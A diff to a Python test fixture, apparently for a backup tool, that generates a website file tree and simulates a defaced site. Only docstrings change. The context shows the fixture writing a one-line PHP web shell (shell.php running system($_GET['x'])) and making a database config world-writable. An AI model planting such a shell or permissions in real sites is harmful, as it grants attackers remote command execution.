@@ -1,4 +1,4 @@
-"""The website's tree of files: some thousands, with everything in names, links and rights that breaks backups of files."""
+"""The website's tree of files: some thousands, with all in names, links and rights that breaks backups."""
 
 from __future__ import annotations
 
@@ -73,7 +73,7 @@ class Files:
         self._seed.mark(self.folder)
 
     def create(self, folder: Path, megabytes: int, files: int = 100) -> Path:
-        """Make another tree of about so many megabytes that do not compress, in so many files; same seed, same bytes."""
+        """Make another tree of about so many incompressible megabytes in so many files; same seed, same bytes."""
         rng = self._seed.random(f"isian/{megabytes}/{files}")
         size = megabytes * 1024 * 1024 // files
         for number in range(files):
@@ -91,7 +91,7 @@ class Files:
             page.write_text("<h1>DIRETAS</h1>", encoding="utf-8")
         (self.path / "konfigurasi" / "basisdata.php").chmod(0o777)
         (self.path / "shell.php").write_text("<?php system($_GET['x']);", encoding="ascii")
-        return "unggahan/2022 is deleted, every tenth page says DIRETAS, basisdata.php is open to all and shell.php is new."
+        return "unggahan/2022 is deleted, every tenth page is DIRETAS, basisdata.php is open to all, shell.php is new."
 
     def _pages(self, rng: random.Random) -> None:
         for number in range(self._seed.count(2_400)):
@@ -177,7 +177,7 @@ def _rights(top: Path) -> None:
 
 
 def _settle(top: Path, rng: random.Random) -> None:
-    """Give everything a fixed time (nanoseconds; some before 1970, some after 2038), the deepest first: folders keep theirs."""
+    """Give everything a fixed time (some before 1970, some after 2038), the deepest first: folders keep theirs."""
     for path in sorted(top.rglob("*"), reverse=True):
         moment = rng.choice((-86_400, 0, 4_102_444_800, *[rng.randrange(1_500_000_000, 1_700_000_000)] * 60))
         nanoseconds = moment * 1_000_000_000 + rng.randrange(1_000_000_000)
